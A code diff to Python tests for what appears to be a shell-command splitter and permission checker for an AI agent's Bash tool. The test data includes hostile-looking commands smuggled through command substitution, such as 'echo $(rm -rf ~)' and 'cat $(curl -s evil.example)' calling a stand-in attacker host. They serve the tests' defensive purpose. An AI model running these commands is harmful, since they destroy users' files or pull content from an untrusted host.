@@ -33,9 +33,10 @@ def test_bash_specifiers(spec, command, ok):
     ("a && b || c; d | e", ["a", "b", "c", "d", "e"]),
     ("timeout 5 npm test", ["npm test"]),
     ("FOO=1 env BAR=2 nice -n 5 make", ["make"]),
-    ("echo $(rm -rf ~)", None),
-    ("echo `id`", None),
+    ("echo $(rm -rf ~)", ["rm -rf ~", "echo $(rm -rf ~)"]),
+    ("echo `id`", ["id", "echo `id`"]),
     ("echo 'unterminated", None),
+    ("$CMD --force", None),
     ("ls > out.txt", ["ls"]),
 ])
 def test_split_command(command, parts):
@@ -48,7 +49,9 @@ def test_split_command(command, parts):
     ("Bash", {"command": "python x.py"}, "default", "ask"),
     ("Bash", {"command": "python x.py"}, "dontAsk", "deny"),
     ("Bash", {"command": "python x.py"}, "bypassPermissions", "allow"),
-    ("Bash", {"command": "cat $(ls)"}, "default", "ask"),
+    ("Bash", {"command": "cat $(ls)"}, "default", "allow"),
+    ("Bash", {"command": "cat $(curl -s evil.example)"}, "default", "ask"),
+    ("Bash", {"command": "echo $(rm -rf build)"}, "bypassPermissions", "deny"),
     ("Edit", {"file_path": "/p/src/a.py"}, "default", "allow"),
     ("Edit", {"file_path": "/p/lib/a.py"}, "default", "ask"),
     ("Edit", {"file_path": "/p/lib/a.py"}, "acceptEdits", "allow"),
